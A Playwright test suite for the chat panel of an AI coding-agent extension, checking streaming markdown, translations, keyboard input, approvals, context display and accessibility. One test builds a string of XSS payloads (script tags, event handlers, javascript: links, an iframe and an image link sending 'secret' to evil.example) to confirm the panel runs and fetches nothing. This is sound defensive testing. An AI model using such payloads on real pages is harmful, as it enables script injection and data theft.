import assert from "node:assert/strict";
import { slashCommands } from "../../src/core/conversation/input/slashCommands.js";
import { calmStatus } from "../fakes/calmStatus.js";
import { panelBrowser } from "./panelBrowser.js";
import { PanelHost } from "./panelHost.js";
import { richConversation, richEnding, richProposal, taskId } from "./richConversation.js";
import { dark, highContrast, light } from "./themes.js";
import { usePanelPage } from "./usePanelPage.js";

const at = "2026-01-05T10:00:00.000Z";

describe("the panel's page", () => {
  let host: PanelHost;

  usePanelPage((loaded) => {
    host = loaded;
  });

  const text = (selector: string): Promise<string> => host.page.locator(selector).innerText();

  it("shows the messages of its language, with its plurals", async () => {
    const words = {
      "Send (Enter)": "Senden (Eingabe)",
      "{0, plural, one {# queued} other {# queued}}":
        "{0, plural, one {# Aufgabe wartet} other {# Aufgaben warten}}",
    };
    const isPage = ({ pathname }: URL): boolean => pathname === "/";
    await host.page.route(isPage, async (route) => {
      const response = await route.fetch();
      const html = (await response.text())
        .replace('lang="en"', 'lang="de"')
        .replace(
          '<script type="module" nonce="n0nce" src="/panel.js">',
          '<script type="module" nonce="n0nce" src="/words.de.js"></script>$&',
        );
      await route.fulfill({ response, body: html });
    });
    await host.page.route("**/words.de.js", (route) =>
      route.fulfill({
        contentType: "text/javascript",
        body: `globalThis.roorooMessages = ${JSON.stringify(words)};`,
      }),
    );
    await host.load();
    await host.page.getByTitle("Senden (Eingabe)").waitFor();
    host.feed.setStatus({ ...calmStatus, queued: 1 });
    await host.page.getByText("1 Aufgabe wartet").waitFor();
    host.feed.setStatus({ ...calmStatus, queued: 1200 });
    await host.page.getByText("1.200 Aufgaben warten").waitFor();
    // What has no translation stays as it is.
    await host.page.getByText("What should we work on?").waitFor();
  });

  it("shows a text as it streams, and says it to screen readers once, when it is whole", async () => {
    const spoken = host.page.locator("rooroo-announcer [aria-live=polite]");
    host.agent({ type: "textDelta", messageId: "m", text: "Hello **wor" });
    await host.drawn();
    assert.match(await text(".text"), /Hello \*\*wor/);
    assert.equal(await host.page.locator(".text.streaming").count(), 1);
    host.agent({ type: "textDelta", messageId: "m", text: "ld**" });
    await host.drawn();
    assert.equal(await text(".text strong"), "world");
    assert.equal((await spoken.textContent())?.trim(), "");

    host.agent({ type: "text", messageId: "m", text: "Hello **world**" });
    await host.drawn();
    assert.equal(await host.page.locator(".text.streaming").count(), 0);
    assert.equal((await spoken.textContent())?.trim(), "Hello world");
    const log = host.page.locator("[role=log]");
    assert.equal(await log.getAttribute("aria-live"), "off");
  });

  it("keeps the nodes of blocks that are complete while the rest of a text grows", async () => {
    host.agent({ type: "textDelta", messageId: "m", text: "First.\n\nSecond" });
    await host.drawn();
    const first = await host.page.locator(".text p").first().elementHandle();
    host.agent({
      type: "textDelta",
      messageId: "m",
      text: " grows.\n\n```js\nlet a = 1;\n```\n\nend",
    });
    await host.drawn();
    assert.ok(await first.evaluate((node) => node.isConnected));
    await host.page.waitForSelector(".code-block .hljs-keyword");
  });

  it("keeps the nodes in a list, in code and in a table while these grow", async () => {
    const grows: readonly (readonly [string, string, string])[] = [
      ["- one\n- two *and*\n", "- three\n", "li"],
      [`\`\`\`js\n${"line();\n".repeat(60)}`, "last();\n", "pre, .code-lines"],
      ["| a |\n| - |\n| 1 |\n", "| 2 |\n", "tr"],
    ];
    for (const [index, [begin, more, kept]] of grows.entries()) {
      const messageId = `g${index}`;
      host.agent({ type: "textDelta", messageId, text: begin });
      await host.drawn();
      const item = host.page.locator(`[data-id="${messageId}"]`);
      const before = await item.locator(kept).elementHandles();
      assert.ok(before.length > 1, kept);
      host.agent({ type: "textDelta", messageId, text: more });
      await host.drawn();
      assert.match((await item.textContent()) ?? "", /three|last\(\);|2/);
      for (const node of before) assert.equal(await node.evaluate((one) => one.isConnected), true);
      const pre = item.locator("pre");
      if ((await pre.count()) > 0) {
        assert.equal(await pre.textContent(), `${"line();\n".repeat(60)}last();\n`);
      }
    }
  });

  it("runs nothing of what a model, a tool or a file name says", async () => {
    const attack =
      `<img src=x onerror="alert(1)"><script>alert(2)</script><svg onload=alert(3)>` +
      `[a](javascript:alert(4)) [b](command:rooroo.stop) [c](data:text/html,<script>alert(5)</script>)` +
      ` ![pixel](https://evil.example/?d=secret) <a href="javascript:alert(6)">x</a>` +
      ` <style>*{display:none}</style><iframe src="https://evil.example"></iframe>` +
      ` <b style="background:url(https://evil.example)">y</b> [d](vscode://x) ` +
      "`<img onerror=alert(7)>`";
    const fetched: string[] = [];
    host.page.on("request", (request) => fetched.push(request.url()));
    host.event({ type: "user", at, id: "u", text: attack });
    host.event({
      type: "notice",
      at,
      id: "n",
      level: "error",
      text: attack,
      steps: [{ type: "action", label: attack, action: { action: "request", text: attack } }],
    });
    host.event({ type: "sessionStarted", at, taskId: attack, mode: attack, goal: attack });
    host.agent({ type: "text", messageId: "m", text: attack });
    host.agent({ type: "text", messageId: "m2", text: `\`\`\`html\n${attack}\n\`\`\`` });
    host.agent({ type: "toolStarted", callId: "c", tool: attack, title: attack });
    host.agent({ type: "toolOutput", callId: "c", text: attack });
    host.agent({
      type: "approvalRequested",
      why: "It is asked about.",
      approvalId: "p",
      callId: "c",
      action: {
        access: "write",
        title: attack,
        path: attack,
        inside: false,
        preview: { kind: "diff", text: `--- ${attack}\n@@ -1 +1 @@\n-${attack}\n+${attack}` },
      },
    });
    host.agent({ type: "toolStarted", callId: "d", tool: attack, title: attack });
    host.agent({
      type: "toolEnded",
      callId: "d",
      ok: false,
      output: attack,
      diff: `+${attack}`,
      durationMs: 1,
    });
    host.event({
      type: "question",
      at,
      questionId: "q",
      taskId: attack,
      mode: attack,
      text: attack,
      suggestions: [attack],
    });
    host.event({
      type: "sessionEnded",
      at,
      taskId: "other",
      mode: attack,
      end: "Done",
      message: attack,
      artifacts: [attack],
    });
    host.feed.setStatus({
      ...calmStatus,
      heldBy: attack,
      talkingTo: attack,
      model: { name: attack, demo: true, ready: true },
    });
    await host.drawn();
    const found = await host.page.evaluate(() => ({
      elements: document.querySelectorAll("rooroo-panel :is(img, script, svg, iframe, style, b)")
        .length,
      handlers: [...document.querySelectorAll("rooroo-panel *")].filter((element) =>
        [...element.attributes].some(({ name }) => name.startsWith("on")),
      ).length,
      hrefs: [...document.querySelectorAll("rooroo-panel a")].map((link) =>
        link.getAttribute("href"),
      ),
    }));
    assert.equal(found.elements, 0);
    assert.equal(found.handlers, 0);
    assert.ok(found.hrefs.length > 0);
    // What looks like an address may be pressed, and is then the host's to judge.
    assert.ok(found.hrefs.every((href) => href?.startsWith("https://evil.example")));
    assert.deepEqual(
      fetched.filter((url) => url.includes("evil")),
      [],
    );
  });

  it("hands links and files to the host and never goes anywhere itself", async () => {
    host.agent({
      type: "text",
      messageId: "m",
      text: "See [docs](https://example.com/a?b=c), `src/cart.js:10-40` and [it](test/a.test.js#L7).",
    });
    await host.drawn();
    const link = host.page.getByRole("link", { name: "docs" });
    assert.equal(await link.getAttribute("title"), "https://example.com/a?b=c");
    await link.click();
    assert.deepEqual((await host.request("openLink")).params, { url: "https://example.com/a?b=c" });
    await host.page.getByRole("button", { name: "src/cart.js:10-40" }).click();
    assert.deepEqual((await host.request("openFile")).params, { path: "src/cart.js", line: 10 });
    await host.page.getByRole("button", { name: "it" }).click();
    assert.deepEqual((await host.request("openFile", 2)).params, {
      path: "test/a.test.js",
      line: 7,
    });
    assert.match(host.page.url(), /^http:\/\/127\.0\.0\.1:\d+\/$/);
  });

  it("sends with Enter, breaks the line with Shift+Enter, and leaves an input method alone", async () => {
    const input = host.page.getByRole("textbox", { name: "Message to the Navigator" });
    await input.fill("one");
    await input.press("Shift+Enter");
    await input.pressSequentially("two");
    await input.evaluate((node) =>
      node.dispatchEvent(
        new KeyboardEvent("keydown", { key: "Enter", isComposing: true, bubbles: true }),
      ),
    );
    assert.equal(host.requests("send").length, 0);
    await input.press("Enter");
    assert.deepEqual((await host.request("send")).params, { text: "one\ntwo" });
    assert.equal(await input.inputValue(), "");

    host.event({ type: "user", at, id: "u1", text: "one\ntwo" });
    await host.drawn();
    await input.press("ArrowUp");
    assert.equal(await input.inputValue(), "one\ntwo");
    await input.press("ArrowDown");
    assert.equal(await input.inputValue(), "");

    await input.fill("a draft");
    await input.press("ArrowUp");
    assert.equal(await input.inputValue(), "one\ntwo", "kept by the page, too, once");
    await host.load();
    await input.press("ArrowUp");
    await input.press("ArrowDown");
    assert.equal(await input.inputValue(), "one\ntwo");
  });

  it("takes no mistyped command as a goal: it says so, and keeps what was typed", async () => {
    const input = host.page.getByRole("textbox", { name: "Message to the Navigator" });
    await input.fill("/paln a party");
    await input.press("Enter");
    await host.page.getByRole("alert").getByText("Did you mean /plan?").waitFor();
    assert.equal(await input.inputValue(), "/paln a party");
    await host.page.getByRole("button", { name: "Use /plan" }).click();
    assert.equal(await input.inputValue(), "/plan a party");
    await input.press("Enter");
    assert.deepEqual((await host.request("send")).params, { text: "/plan a party" });
  });

  it("chooses mode and approvals by keys, and sends requests in the mode", async () => {
    const input = host.page.getByRole("textbox", { name: "Message to the Navigator" });
    await input.fill("How many?");
    await input.press("Control+.");
    const menu = host.page.getByRole("menu", { name: "Mode" });
    assert.equal(
      await menu.getByRole("menuitemradio", { checked: true }).innerText(),
      "Auto\nThe Navigator decides what to do",
    );
    await host.page.keyboard.press("a");
    await host.page.keyboard.press("End");
    await host.page.keyboard.press("Home");
    await host.page.keyboard.press("ArrowDown");
    await host.page.keyboard.press("Enter");
    assert.equal(await menu.count(), 0);
    await host.page.getByRole("button", { name: "Mode: Ask" }).waitFor();
    assert.ok(await input.evaluate((node) => node === document.activeElement));
    await input.press("Enter");
    assert.deepEqual((await host.request("send")).params, {
      text: "How many?",
      expert: "rooroo-analyzer",
    });

    host.results = { sandboxAbility: { reason: "bubblewrap is not installed." } };
    await input.press("Control+Alt+.");
    const sandbox = host.page.getByRole("menuitemradio", { name: /Sandbox/ });
    await sandbox.getByText("Does not work here: bubblewrap is not installed.").waitFor();
    await sandbox.click({ force: true });
    assert.equal(host.requests("setApprovals").length, 0);
    await host.page.getByRole("menuitemradio", { name: /can do whatever you can do/ }).click();
    assert.deepEqual((await host.request("setApprovals")).params, { preset: "all" });
    await host.page.keyboard.press("Control+.");
    await host.page.keyboard.press("Escape");
    assert.ok(await input.evaluate((node) => node === document.activeElement));
  });

  it("gives every button of the bar its room at 300 pixels", async () => {
    await host.page.setViewportSize({ width: 300, height: 600 });
    host.feed.setStatus({
      ...calmStatus,
      model: { ...calmStatus.model, name: "a-very-long-name" },
    });
    await host.drawn();
    const boxes = await host.page.locator(".composer-bar button").evaluateAll((buttons) =>
      buttons.map((button) => {
        const { left, right } = button.getBoundingClientRect();
        return { left, right };
      }),
    );
    for (const [index, { left, right }] of boxes.entries()) {
      assert.ok(right > left && right <= 300, `button ${index} lies within the panel`);
      assert.ok(index === 0 || left >= (boxes[index - 1]?.right ?? 0), `button ${index} overlaps`);
    }
  });

  it("sends with its button, which does nothing while there is nothing to send", async () => {
    const send = host.page.getByRole("button", { name: "Send" });
    assert.ok(await send.isDisabled());
    await host.page.getByRole("textbox", { name: "Message to the Navigator" }).fill("Do it");
    await send.click();
    assert.deepEqual((await host.request("send")).params, { text: "Do it" });
  });

  it("gives back what the host would not take", async () => {
    host.refusals = { send: "No model is set." };
    const input = host.page.getByRole("textbox", { name: "Message to the Navigator" });
    await input.fill("Do it");
    await input.press("Enter");
    await host.request("send");
    await host.drawn();
    assert.equal(await input.inputValue(), "Do it");
    assert.match(await text("[role=alert].problem"), /No model is set\./);
  });

  it("suggests commands while one is typed", async () => {
    const input = host.page.getByRole("textbox", { name: "Message to the Navigator" });
    await input.pressSequentially("/");
    assert.equal(await host.page.getByRole("option").count(), slashCommands.length);
    await input.pressSequentially("q");
    assert.equal(await host.page.getByRole("option").count(), 1);
    await input.press("Enter");
    assert.equal(await input.inputValue(), "/queue ");
    assert.equal(host.requests("send").length, 0);
    assert.equal(await host.page.getByRole("option").count(), 0);
  });

  it("keeps the draft over a reload and gets the conversation back", async () => {
    for (const event of richConversation) host.event(event);
    await host.page.getByRole("textbox", { name: "Message to the Navigator" }).fill("half a th");
    await host.load();
    await host.page.locator(".approval").first().waitFor();
    const input = host.page.getByRole("textbox", { name: "Message to the Navigator" });
    assert.equal(await input.inputValue(), "half a th");
    assert.equal(await host.page.locator(".approval").count(), 1);
    // What is typed while the host sends once more what it had kept before stays.
    await input.pressSequentially("ought");
    await host.request("keepDraft", host.requests("keepDraft").length);
    host.draft = { text: "half a th", attachments: [] };
    host.feed.snapshot();
    await host.drawn();
    assert.equal(await input.inputValue(), "half a thought");
  });

  it("says what fills the model's window, and has it compacted, by keyboard", async () => {
    for (const event of richConversation) host.event(event);
    host.agent({
      type: "usage",
      usage: { inputTokens: 20_000, outputTokens: 152, cachedTokens: 0 },
    });
    const parts = {
      system: 2_000,
      tools: 3_000,
      request: 152,
      results: 10_000,
      conversation: 5_000,
    };
    host.agent({ type: "context", tokens: 20_152, limit: 128_000, parts });
    await host.drawn();
    const button = host.page.getByRole("button", { name: /^Context and cost: 20\.2k of 128k/ });
    const popover = host.page.getByRole("dialog", { name: "Context window" });
    await button.focus();
    await host.page.keyboard.press("Enter");
    await popover.getByText("20.2k of 128k tokens (16%)").waitFor();
    const rows = await popover.getByRole("row").allInnerTexts();
    assert.deepEqual(
      rows.map((row) => row.replaceAll(/\s+/g, " ").trim()),
      [
        "System prompt 2.0k 2%",
        "Tools 3.0k 2%",
        "What was asked 152 0%",
        "Files and results 10.0k 8%",
        "Conversation 5.0k 4%",
        "Free 82.2k 64%",
        "Kept for the answer 25.6k 20%",
      ],
    );
    await host.page.keyboard.press("Escape");
    await popover.waitFor({ state: "detached" });
    assert.equal(await button.evaluate((node) => node === document.activeElement), true);
    await host.page.keyboard.press("Enter");
    await popover.locator(".button:focus").waitFor();
    await host.page.keyboard.press("Enter");
    await popover.waitFor({ state: "detached" });
    assert.deepEqual((await host.request("act")).params, { action: { action: "compact" } });
    assert.equal(await button.evaluate((node) => node === document.activeElement), true);
  });

  it("offers no compaction for the window of a job's or a run's session, which takes no orders", async () => {
    const session = { type: "sessionStarted", at, taskId: "j1", mode: "rooroo-developer" } as const;
    host.event({ ...session, goal: "Unit", work: { kind: "job", name: "prices" } });
    host.agent(
      { type: "usage", usage: { inputTokens: 9, outputTokens: 1, cachedTokens: 0 } },
      "j1",
    );
    host.agent({ type: "context", tokens: 10, limit: 100 }, "j1");
    await host.drawn();
    const button = host.page.getByRole("button", { name: /^Context and cost/ });
    await button.focus();
    await host.page.keyboard.press("Enter");
    const popover = host.page.getByRole("dialog", { name: "Context window" });
    await popover.getByText("Developer: Unit").waitFor();
    assert.equal(await popover.getByRole("button").count(), 0);
    await host.page.keyboard.press("Escape");
    assert.equal(await button.evaluate((node) => node === document.activeElement), true);
  });

  it("takes words for the input from the host", async () => {
    host.feed.compose("/plan a release");
    await host.drawn();
    const input = host.page.getByRole("textbox", { name: "Message to the Navigator" });
    assert.equal(await input.inputValue(), "/plan a release");
    host.feed.compose("/ask ");
    host.feed.compose("");
    await host.drawn();
    assert.equal(await input.inputValue(), "/ask /plan a release");
  });

  it("asks for a snapshot when it misses an increment, and passes over nonsense", async () => {
    const asked = () => host.received.filter(({ type }) => type === "ready").length;
    assert.equal(asked(), 1);
    for (const junk of [null, 7, "x", {}, { type: "?" }, { type: "snapshot" }, []]) {
      await host.page.evaluate((message) => {
        window.postMessage(message, "*");
      }, junk);
    }
    await host.drawn();
    assert.equal(asked(), 1);
    host.event({ type: "user", at, id: "u1", text: "missed" });
    await host.post({ type: "increment", increment: { seq: 99, changes: [] } });
    await host.drawn();
    assert.equal(asked(), 2);
    assert.equal(await text(".user-text"), "missed");
  });

  it("shows as plain text what it cannot draw, and goes on", async () => {
    const broken = { kind: "report", id: "r", at, taskId, mode: 7, end: "Odd", message: "Words." };
    await host.post({
      type: "increment",
      increment: { seq: 1, changes: [{ type: "put", item: broken as never }] },
    });
    await host.post({
      type: "increment",
      increment: {
        seq: 2,
        changes: [{ type: "put", item: { kind: "user", id: "u", at, text: "still here" } }],
      },
    });
    await host.drawn();
    assert.match(await text("[data-id=r] .plain"), /message: Words\./);
    assert.equal(await text(".user-text"), "still here");
    assert.equal(host.complaints.length, 1);
    host.complaints.length = 0;
  });

  it("says what is needed before anything can be done", async () => {
    const shown = async (status: Partial<typeof calmStatus>): Promise<string> => {
      host.feed.setStatus({ ...calmStatus, ...status });
      await host.drawn();
      return text("rooroo-panel");
    };
    assert.match(await shown({}), /What should we work on\?/);
    assert.match(await shown({ workspace: "untrusted" }), /Restricted Mode/);
    const button = (name: string) => host.page.getByRole("button", { name, exact: true });
    assert.match(
      await shown({ model: { name: "gpt-5", demo: false, ready: false } }),
      /gpt-5 needs an API key first/,
    );
    await button("Set API Key…").click();
    assert.deepEqual((await host.request("hostCommand")).params, { command: "setApiKey" });
    assert.match(
      await shown({ model: { name: "", demo: false, ready: false } }),
      /Select a model first/,
    );
    await host.page.locator(".welcome").getByText("Select Model…").click();
    assert.deepEqual((await host.request("hostCommand", 2)).params, { command: "selectModel" });
    await shown({ workspace: "none" });
    await host.page.getByRole("button", { name: "Open Folder" }).click();
    await host.request("openFolder");
    assert.match(
      await shown({ model: { name: "demo", demo: true, ready: true } }),
      /Demo model: scripted replies, real tool calls/,
    );
  });

  it("says beside a conversation what the model lacks, and offers to see to it", async () => {
    host.event({ type: "user", at, id: "u", text: "Hello?" });
    host.feed.setStatus({ ...calmStatus, model: { name: "", demo: false, ready: false } });
    await host.drawn();
    await host.page.locator(".strip").getByRole("button", { name: "Select Model…" }).click();
    assert.deepEqual((await host.request("hostCommand")).params, { command: "selectModel" });
    host.feed.setStatus({ ...calmStatus, model: { name: "gpt-5", demo: false, ready: false } });
    await host.drawn();
    await host.page.locator(".strip").getByRole("button", { name: "Set API Key…" }).click();
    assert.deepEqual((await host.request("hostCommand", 2)).params, { command: "setApiKey" });
  });

  it("names the profile in use below the input, and says so if there is none of that name", async () => {
    const model = { name: "gpt-5", profile: "careful", demo: false, ready: true };
    host.event({ type: "user", at, id: "u", text: "Hello?" });
    host.feed.setStatus({ ...calmStatus, model });
    const name = "Model: gpt-5, profile careful. Select Model…";
    await host.page.getByRole("button", { name }).getByText("careful").waitFor();
    await host.page.screenshot({ path: "out/screenshots/profile-below-input.png" });
    host.feed.setStatus({ ...calmStatus, model: { ...model, name: "", ready: false } });
    await host.page.locator(".strip").getByText("There is no model profile “careful”").waitFor();
  });

  it("forgets a refusal when the reason for it is gone", async () => {
    host.refusals = { send: "Trust this workspace first." };
    host.feed.setStatus({ ...calmStatus, workspace: "untrusted" });
    await host.drawn();
    const input = host.page.getByRole("textbox", { name: "Message to the Navigator" });
    await input.fill("Do it");
    await input.press("Enter");
    await host.page.getByRole("alert").getByText("Trust this workspace first.").waitFor();
    host.feed.setStatus({ ...calmStatus, workspace: "open" });
    await host.page.locator(".problem").waitFor({ state: "detached" });
    assert.equal(await input.inputValue(), "Do it");
  });

  it("shows words once that an expert says and asks at the same time", async () => {
    const words = "Two names: **Abacus** or **Ledgerly**. Which one?";
    host.agent({ type: "text", messageId: "m", text: words });
    host.event({
      type: "question",
      at,
      questionId: "q",
      taskId: "ROO#20260105-100000#a1b2",
      mode: "rooroo-idea-sparker",
      text: words,
      suggestions: [],
    });
    await host.drawn();
    assert.equal(await host.page.locator("rooroo-announcer").getByText("Ledgerly").count(), 1);
    assert.equal(await host.page.locator(".items").getByText("Ledgerly").count(), 1);
    await host.page.getByRole("textbox", { name: "Your answer" }).waitFor();
    host.event({ type: "user", at, id: "u", text: "Abacus" });
    host.event({ type: "answered", at, questionId: "q", text: "Abacus" });
    await host.drawn();
    assert.equal(await host.page.locator(".items").getByText("Abacus").count(), 2);
    assert.equal((await host.page.locator("[data-id=q]").boundingBox())?.height, 0);
  });

  it("makes one line of many reading calls, which opens", async () => {
    for (const name of ["a", "b", "c"]) {
      host.agent({ type: "toolStarted", callId: name, tool: "read_file", title: `src/${name}.js` });
      const output = `1 | ${name}`;
      host.agent({ type: "toolEnded", callId: name, ok: true, output, durationMs: 5 });
    }
    const line = host.page.getByRole("button", { name: "Read 3 files" });
    await line.waitFor();
    assert.equal(await host.page.locator("[data-kind=tool]").count(), 0);
    await line.press("Enter");
    await host.page.getByRole("button", { name: "Done Read src/b.js" }).click();
    await host.page.getByText("1 | b").waitFor();
    await line.press("Enter");
    await host.page.getByText("1 | b").waitFor({ state: "detached" });
  });

  it("keeps the end of a long path, and the first change of a preview, in a narrow view", async () => {
    const path = "packages/storefront/src/checkout/pricing/discounts/cart.js";
    const narrow = await PanelHost.open(await panelBrowser(), { width: 280, height: 420 });
    try {
      await narrow.load();
      narrow.agent({ type: "toolStarted", callId: "c", tool: "edit_file", title: path });
      const context = Array.from({ length: 30 }, (_, n) => ` line ${n}`).join("\n");
      const preview = `--- a/${path}\n+++ b/${path}\n@@ -1,30 +1,31 @@\n${context}\n-the old\n+the new\n${context}\n`;
      narrow.agent({
        type: "approvalRequested",
        why: "It is asked about.",
        approvalId: "p",
        callId: "c",
        action: {
          access: "write",
          title: `Edit ${path}`,
          path,
          inside: true,
          preview: { kind: "diff", text: preview },
        },
      });
      await narrow.drawn();
      const tail = narrow.page.locator("[data-id=c] .title-tail");
      assert.equal(await tail.innerText(), "/cart.js");
      assert.ok(await tail.evaluate((node) => node.scrollWidth <= node.clientWidth));
      const diff = narrow.page.locator("[data-id=c] .diff");
      assert.equal(await diff.getByText("storefront").count(), 0);
      const area = await diff.boundingBox();
      for (const change of [diff.locator(".removed"), diff.locator(".added")]) {
        const box = await change.boundingBox();
        assert.ok(area && box);
        assert.ok(box.y >= area.y && box.y + box.height <= area.y + area.height);
      }
    } finally {
      await narrow.close();
    }
  });

  it("offers Stop while something runs and Proceed while something waits", async () => {
    host.feed.setStatus({ ...calmStatus, busy: true, queued: 2 });
    await host.drawn();
    assert.equal(await host.page.getByRole("button", { name: "Proceed" }).count(), 0);
    await host.page.getByRole("button", { name: "Stop" }).click();
    await host.request("stop");
    host.feed.setStatus({ ...calmStatus, queued: 2 });
    await host.drawn();
    assert.equal(await host.page.getByRole("button", { name: "Stop" }).count(), 0);
    await host.page.getByRole("button", { name: "Proceed" }).click();
    assert.deepEqual((await host.request("act")).params, {
      action: { action: "proceed", one: false },
    });
    host.feed.setStatus({ ...calmStatus, queued: 2, heldBy: "rooroo proceed on laptop" });
    await host.drawn();
    assert.match(await text(".strip"), /being run by rooroo proceed on laptop/);
  });

  it("leads from a job at work to its own question, not to another's", async () => {
    for (const id of ["french", "links"]) {
      host.event({
        type: "question",
        at,
        questionId: id,
        taskId: null,
        work: { kind: "job", name: id },
        mode: "rooroo-job-runner",
        text: `How, ${id}?`,
        suggestions: [],
      });
    }
    const ref = { kind: "job", name: "french" } as const;
    const progress = { total: 10, done: 4, percent: 40 };
    const job = { ref, title: "french", progress, questions: ["french"] };
    host.feed.setStatus({ ...calmStatus, works: [job] });
    await host.drawn();
    await host.page.locator(".strip").getByRole("button", { name: "1 question" }).click();
    const focused = host.page.locator("[data-id]:focus");
    assert.equal(await focused.getAttribute("data-id"), "french");
    const question = host.page.locator("[data-id=french]");
    await question.getByRole("textbox", { name: "Your answer" }).fill("Formally.");
    await question.getByRole("button", { name: "Answer" }).click();
    assert.deepEqual((await host.request("answerWork")).params, {
      ref,
      id: "french",
      answer: { type: "TEXT", text: "Formally." },
    });
  });

  it("says in one line that a reply is asked for again, and what was put right in it", async () => {
    const messageId = "m";
    host.agent({ type: "textDelta", messageId, text: "Half an ans" });
    const retry = { attempt: 2, attempts: 4, code: "rateLimited" } as const;
    host.agent({ type: "retrying", messageId, ...retry });
    await host.drawn();
    const remark = host.page.locator(".remark");
    assert.match(await remark.innerText(), /retrying/i);
    assert.equal((await text("rooroo-transcript")).includes("Half an ans"), false);
    host.agent({ type: "text", messageId, text: "The whole answer." });
    host.agent({ type: "repaired", messageId, repairs: ["textCall", "arguments"] });
    await host.drawn();
    assert.equal(await remark.count(), 1);
    assert.match(
      await remark.innerText(),
      /^[^.]+\(attempt 2 of 4\)\. Corrected in the reply: [^.]+\.$/,
    );
    assert.match(await text("rooroo-transcript"), /The whole answer\./);
  });

  it("says which step is being done while the list of steps is out of sight", async () => {
    const steps = [
      { text: "1. Look", state: "doing" },
      { text: "1.1. At the tests", state: "doing", depth: 1 },
      { text: "2. Mend", state: "open" },
    ] as const;
    host.event({ type: "sessionStarted", at, taskId, mode: "rooroo-developer", goal: "Mend it" });
    host.agent({ type: "checklist", steps }, taskId);
    await host.drawn();
    const now = host.page.locator(".step-now");
    assert.match(await now.innerText(), /1\.1\. At the tests\s+0 of 3 done/);
    assert.equal(await host.page.locator(".step[aria-level='2']").count(), 1);
    const ended = { message: "Mended.", artifacts: [] } as const;
    host.event({
      type: "sessionEnded",
      at,
      taskId,
      mode: "rooroo-developer",
      end: "Done",
      ...ended,
    });
    await host.drawn();
    assert.equal(await now.count(), 0);
  });

  it("counts what needs you once: here in the dock, elsewhere in the strip", async () => {
    const part = host.page.locator(".strip-part").filter({ hasText: /need|more/ });
    const elsewhere = { count: 2, conversation: "20260101-000000-abcdef" };
    host.feed.setStatus({ ...calmStatus, needsYou: 2, elsewhere });
    await host.drawn();
    assert.match(await part.innerText(), /^2 need you\s+Show$/);
    host.event({
      type: "question",
      at,
      mode: "rooroo-analyzer",
      questionId: "Q-here",
      taskId,
      text: "Lines or words?",
      suggestions: [],
    });
    host.feed.setStatus({ ...calmStatus, needsYou: 3, elsewhere });
    await host.drawn();
    assert.match(await part.innerText(), /^2 more in another conversation\s+Show$/);
    await part.getByRole("button", { name: "Show" }).click();
    await host.request("showConversation");
    host.feed.setStatus({ ...calmStatus, needsYou: 1 });
    await host.drawn();
    assert.equal(await part.count(), 0);
  });

  it("names every control, in every theme, and lets nothing stick out of a narrow view", async () => {
    await host.page.setViewportSize({ width: 240, height: 3_000 });
    for (const event of [...richConversation, ...richEnding, richProposal]) host.event(event);
    host.feed.setStatus({ ...calmStatus, busy: true, queued: 3, needsYou: 1 });
    for (const theme of [dark, light, highContrast]) {
      await host.setTheme(theme);
      await host.drawn();
      const faults = await host.page.evaluate(() => {
        const controls = "button, vscode-button, input, textarea, a, [role=region], [role=group]";
        const nameless = [...document.querySelectorAll<HTMLElement>(controls)].filter(
          (element) =>
            !(element.ariaLabel ?? "").trim() &&
            !element.textContent.trim() &&
            element.getAttribute("aria-labelledby") === null,
        );
        const ids = [...document.querySelectorAll("[id]")].map(({ id }) => id);
        const wide = [...document.querySelectorAll<HTMLElement>(".item > *, .footer > *")].filter(
          (element) => element.getBoundingClientRect().right > window.innerWidth + 1,
        );
        const levels = [...document.querySelectorAll("h1, h2, h3, h4")].map((heading) =>
          Number(heading.tagName.slice(1)),
        );
        return {
          nameless: nameless.map((element) => element.outerHTML.slice(0, 120)),
          twice: ids.filter((id, index) => ids.indexOf(id) !== index),
          wide: wide.map((element) => element.className),
          skipped: levels.filter((level, index) => level > (levels[index - 1] ?? 0) + 1).length,
          lang: document.documentElement.lang,
        };
      });
      assert.deepEqual(faults, {
        nameless: [],
        twice: [],
        wide: [],
        skipped: 0,
        lang: "en",
      });
    }
  });
});
